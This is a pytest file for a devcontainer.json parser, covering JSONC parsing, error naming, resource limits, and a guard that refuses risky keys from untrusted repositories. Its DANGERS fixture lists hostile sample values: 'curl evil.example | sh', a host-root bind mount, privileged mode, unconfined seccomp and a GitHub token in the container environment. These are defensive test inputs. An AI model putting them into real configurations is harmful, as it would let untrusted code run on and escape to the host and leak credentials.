"""What a devcontainer.json may say, before and after trust, and how its mistakes are named."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from patchyard.domain.devcontainer import (
    DANGEROUS,
    Build,
    Devcontainer,
    Sight,
    parse_devcontainer,
    places_in,
)
from patchyard.domain.errors import GuardRefused, UsageError
from patchyard.domain.jsonc import parse_jsonc
from written import Written

PATH = ".devcontainer/devcontainer.json"
LOCAL = {"HOST_LANG": "en"}
TOKEN = "${localEnv:GITHUB_TOKEN}"


def sight(*, is_trusted: bool = False, path: str = PATH) -> Sight:
    return Sight(
        path=path, checkout="/src/shop", is_trusted=is_trusted, local=LOCAL.get, files=Written()
    )


def read(body: Mapping[str, Any], *, is_trusted: bool = False, path: str = PATH) -> Devcontainer:
    return parse_devcontainer(json.dumps(body), sight(is_trusted=is_trusted, path=path))


def needing(**needs: Any) -> Mapping[str, Any]:
    return {"image": "i", "hostRequirements": needs}


def test_comments_trailing_commas_and_slashes_in_texts_are_read() -> None:
    text = """
    { // a shop
      "image": "house//base:1", /* not
      a comment: // */ "name": "a /* b */ \\" // c",
      "forwardPorts": [80, 81, /* 82, */ ],
    }
    """
    assert parse_jsonc(text, name="x") == {
        "image": "house//base:1",
        "name": 'a /* b */ " // c',
        "forwardPorts": [80, 81],
    }


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('{\n  "a": 1\n  "b": 2\n}', r"x:3:3: Expecting ',' delimiter"),
        ('{/* one */ "a": }', "x:1:17: Expecting value"),
        ('{"a": 1, "a": 2}', "the key 'a' stands twice"),
        ("[" * 100_000, "x: "),
        ("", "x:1:1: "),
        ("{} /* open", "x:1:4: Extra data"),
        (f'{{"a": {"9" * 5000}}}', "x: .*digits"),
        ('{"a": 1,, }', "x:1:"),
        (f'{{"a": {"9" * 5000}}}', "x: a number in it has thousands of digits"),
    ],
)
def test_what_is_no_json_is_named_with_line_and_column(text: str, words: str) -> None:
    with pytest.raises(UsageError, match=words):
        parse_jsonc(text, name="x")


@pytest.mark.parametrize(
    "text",
    [
        "," + "/" * 100_000,
        "[1" + ",/**/ //\n" * 50_000,
        '"' + '\\"' * 200_000,
        "/*" * 200_000,
        ",".join(["{" + ",".join(f'"{number}":0' for number in range(50_000)), '"49999":0}']),
    ],
    ids=["slashes", "commas", "quotes", "open comments", "keys"],
)
def test_no_text_takes_more_time_than_its_length(text: str) -> None:
    with pytest.raises(UsageError):
        parse_jsonc(text, name="x")


def test_variables_without_an_end_stay_and_take_no_time() -> None:
    text = "${x" * 100_000
    assert read({"image": "i", "containerEnv": {"A": text}}).variables == {"A": text}


def test_what_counts_is_read() -> None:
    found = read(
        {
            "build": {
                "dockerfile": "../docker/Dockerfile",
                "context": "..",
                "args": {"A": "${localWorkspaceFolderBasename}"},
                "target": "dev",
            },
            "containerEnv": {"WHERE": "${containerWorkspaceFolder}/x"},
            "remoteEnv": {"PATH": "/opt/bin:${containerEnv:PATH}", "GONE": None},
            "workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}/",
            "remoteUser": "vscode",
            "hostRequirements": {"cpus": 2, "memory": "1gb", "storage": "512 mb"},
            "onCreateCommand": "one",
            "postCreateCommand": {"a": ["two", "a b"], "b": "three", "c": "${containerEnv:NONE}"},
            "postStartCommand": ["four"],
            "postAttachCommand": None,
            "customizations": {"vscode": {}},
            "privileged": False,
            "mounts": [],
        }
    )
    assert found == Devcontainer(
        path=PATH,
        build=Build(
            dockerfile="docker/Dockerfile", arguments={"A": "shop"}, target="dev", context=""
        ),
        variables={"WHERE": "/workspaces/shop//x", "PATH": "/opt/bin:"},
        folder="/workspaces/shop",
        user="vscode",
        cpus=2.0,
        memory_bytes=1024**3,
        storage_bytes=512 * 1024**2,
        created=("one", "two 'a b'", "three"),
        started=("four",),
    )


def test_whether_its_repository_was_trusted_is_kept() -> None:
    body = {"image": "i", "hostRequirements": {"memory": "64gb"}}
    assert read(body).is_trusted is False
    assert read(body, is_trusted=True).is_trusted is True


def test_the_older_words_for_a_build_and_the_checkouts_own_path_count() -> None:
    found = read({"dockerFile": "Dockerfile", "workspaceFolder": "/src/shop"})
    assert found.build == Build(dockerfile=".devcontainer/Dockerfile", context=".devcontainer")
    assert found.folder == ""


DANGERS: dict[str, Any] = {
    "initializeCommand": "curl evil.example | sh",
    "runArgs": ["--privileged"],
    "privileged": True,
    "capAdd": ["SYS_PTRACE"],
    "securityOpt": ["seccomp=unconfined"],
    "mounts": ["source=/,target=/host,type=bind"],
    "workspaceMount": "source=/,target=/host,type=bind",
    "dockerComposeFile": "compose.yml",
    "service": "app",
    "runServices": ["db"],
    "build.options": {"dockerfile": "D", "options": ["--network=host"]},
    f"{TOKEN} in containerEnv.TOKEN": {"TOKEN": TOKEN},
}
LOCAL_ONE = next(reversed(DANGERS))


def test_every_dangerous_key_is_tried() -> None:
    assert set(DANGERS) - {"build.options", LOCAL_ONE} == set(DANGEROUS)


@pytest.mark.parametrize("key", sorted(DANGERS))
def test_what_only_trust_lets_count_is_refused_by_name(key: str) -> None:
    named = {"build.options": "build", LOCAL_ONE: "containerEnv"}.get(key, key)
    body = {"image": "house/base", named: DANGERS[key]}
    with pytest.raises(GuardRefused) as refused:
        read(body)
    assert f"says {key}," in refused.value.message
    assert "agents trust" in refused.value.hint


def test_variables_of_this_machine_are_named_with_their_keys_and_how_to_mend_it() -> None:
    body = {
        "image": "house/${localEnv:TAG:1}",
        "postCreateCommand": ["echo", "${env:USER}${localEnv:TAG}"],
        "customizations": {"${localEnv:KEY}": [{"a": "${localEnv:"}]},
    }
    with pytest.raises(GuardRefused) as refused:
        read(body)
    assert refused.value.message == (
        f"{PATH} says ${{localEnv:TAG}} in image, ${{env:USER}} in postCreateCommand[1],"
        " ${localEnv:TAG} in postCreateCommand[1],"
        " ${localEnv:KEY} in customizations.${localEnv:KEY},"
        " ${localEnv:} in customizations.${localEnv:KEY}[0].a,"
        " which an untrusted repository may not"
    )
    assert "a plain value may stand in its place" in refused.value.hint
    many = {"image": "i", "containerEnv": {f"A{n}": f"${{localEnv:B{n}}}" for n in range(9)}}
    with pytest.raises(GuardRefused, match=r"A4, and 4 more of them, which"):
        read(many)


@pytest.mark.parametrize("word", ["localEnv", "env"])
def test_what_parts_come_to_together_is_refused_by_name_too(word: str) -> None:
    """The installer of features would fill it in."""
    body = {"image": "i", "postCreateCommand": f"echo ${{containerEnv:Q:$}}{{{word}:X}}"}
    with pytest.raises(GuardRefused, match=rf"says \${{{word}:X}} in postCreateCommand, which an"):
        read(body)
    assert read(body, is_trusted=True).created == (f"echo ${{{word}:X}}",)


@pytest.mark.parametrize("key", sorted(set(DANGERS) - {LOCAL_ONE, "dockerComposeFile"}))
def test_after_trust_no_wall_falls_and_what_was_passed_over_is_named(key: str) -> None:
    named = {"build.options": "build"}.get(key, key)
    found = read({"image": "house/base", named: DANGERS[key]}, is_trusted=True)
    assert found.passed_over == (key,)


def test_after_trust_a_local_variable_is_filled_in_and_others_have_their_default() -> None:
    body = {
        "image": "i",
        "containerEnv": {"L": "${localEnv:HOST_LANG}", "D": "${localEnv:NONE:some:thing}"},
    }
    assert read(body, is_trusted=True).variables == {"L": "en", "D": "some:thing"}


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ({}, "neither `image` nor `build`"),
        ({"image": 3}, "image: must be text, not a number"),
        ({"build": "x"}, "build: must be an object"),
        ({"build": {"context": "."}}, "build: names no `dockerfile`"),
        ({"build": {"dockerfile": "../../D"}}, "lies outside of the repository"),
        ({"build": {"dockerfile": "/etc/D"}}, "lies outside of the repository"),
        ({"build": {"dockerfile": "../D"}}, "D does not lie in the context .devcontainer"),
        ({"build": {"dockerfile": "D", "args": []}}, "build.args: must be an object"),
        ({"build": {"dockerfile": "D", "args": {"A": 1}}}, "build.args.A: must be text"),
        ({"image": "i", "containerEnv": {"A B": "x"}}, "no name of a variable"),
        ({"image": "i", "containerEnv": {"A": 1}}, "containerEnv.A: must be text"),
        ({"image": "i", "containerEnv": []}, "containerEnv: must be an object"),
        ({"image": "i", "containerEnv": {"A": "${what}"}}, "{what} is not known here"),
        ({"image": "i", "workspaceFolder": "work"}, "no absolute path"),
        ({"image": "i", "remoteUser": "a:b"}, "no name of a user"),
        ({"image": "i", "postCreateCommand": 3}, "must be a text or a list of texts"),
        ({"image": "i", "hostRequirements": {"memory": "much"}}, "no size such as 8gb"),
        (needing(memory="0gb"), "hostRequirements.memory: must be 32 MiB or more, not 0gb"),
        (needing(memory="1"), "hostRequirements.memory: must be 32 MiB or more, not 1"),
        (needing(memory="9" * 5000), "hostRequirements.memory: must be 1024 TiB or less, not 999"),
        (needing(memory="٣gb"), "hostRequirements.memory: '٣gb' is no size"),
        (needing(storage="1025tb"), "hostRequirements.storage: must be 1024 TiB or less"),
        (needing(cpus=0), "hostRequirements.cpus: must be 0.05 or more"),
        (needing(cpus=1e-9), "hostRequirements.cpus: must be 0.05 or more"),
        (needing(cpus=int("9" * 400)), "hostRequirements.cpus: must be 1024 or less"),
        (needing(cpus=-int("9" * 400)), "hostRequirements.cpus: must be 0.05 or more"),
        (needing(cpus=float("nan")), "hostRequirements.cpus: must be 0.05 or more"),
        (needing(cpus="2"), "hostRequirements.cpus: '2' is no number"),
        (needing(cpus=True), "hostRequirements.cpus: True is no number"),
        ({"image": "\ud800"}, "image: holds half of a character"),
        ({"image": "i", "postCreateCommand": ["a", "\udfff"]}, "postCreateCommand[1]: holds half"),
        ({"image": "i", "x": {"\ud800": 1}}, "x: holds half of a character"),
        ([], "must be an object, not a list"),
    ],
)
def test_what_does_not_fit_is_named_with_its_place(body: Any, words: str) -> None:
    with pytest.raises(UsageError) as refused:
        read(body)
    assert refused.value.message.startswith(f"{PATH}: ")
    assert words in refused.value.message


def test_compose_files_are_refused_also_after_trust() -> None:
    with pytest.raises(UsageError, match="compose files are not supported"):
        read({"dockerComposeFile": "c.yml", "service": "app"}, is_trusted=True)


def test_an_unknown_key_is_passed_over_and_named() -> None:
    assert read({"image": "i", "imagination": 1}).passed_over == ("imagination",)


def test_what_the_specification_knows_and_counts_for_nothing_is_named_too() -> None:
    keys = ("appPort", "forwardPorts", "init", "overrideCommand", "userEnvProbe")
    silent = {"name": "shop", "customizations": {"vscode": {}}, "$schema": "x"}
    assert read({"image": "i", **silent, **dict.fromkeys(keys, 1)}).passed_over == keys


@pytest.mark.parametrize("key", ["cacheFrom", "secrets"])
def test_what_counts_for_nothing_of_a_build_is_named_too(key: str) -> None:
    body = {"build": {"dockerfile": "Dockerfile", "target": "t", key: ["registry.example/a"]}}
    assert read(body).passed_over == (f"build.{key}",)


def test_what_a_host_is_asked_for_and_does_not_give_is_named() -> None:
    body = {"image": "i", "hostRequirements": {"memory": "64gb", "gpu": True, "cpus": 2}}
    beyond = "hostRequirements.memory beyond 4 GiB (before `agents trust`)"
    assert read(body).passed_over == ("hostRequirements.gpu", beyond)
    assert read(body, is_trusted=True).passed_over == ("hostRequirements.gpu",)


@pytest.mark.parametrize(
    ("tree", "found"),
    [
        ({"a.py": ()}, []),
        ({".devcontainer.json": ()}, [".devcontainer.json"]),
        (
            {
                ".devcontainer": ("devcontainer.json", "go"),
                ".devcontainer/go": ("devcontainer.json",),
                ".devcontainer.json": (),
            },
            [PATH, ".devcontainer.json", ".devcontainer/go/devcontainer.json"],
        ),
        ({".devcontainer": ("Dockerfile",)}, []),
    ],
)
def test_it_is_found_where_the_specification_says(
    tree: dict[str, tuple[str, ...]], found: list[str]
) -> None:
    def inside(folder: str) -> list[str]:
        return [f"{folder}/{name}" for name in tree.get(folder, ())]

    assert list(places_in([name for name in tree if "/" not in name], inside)) == found
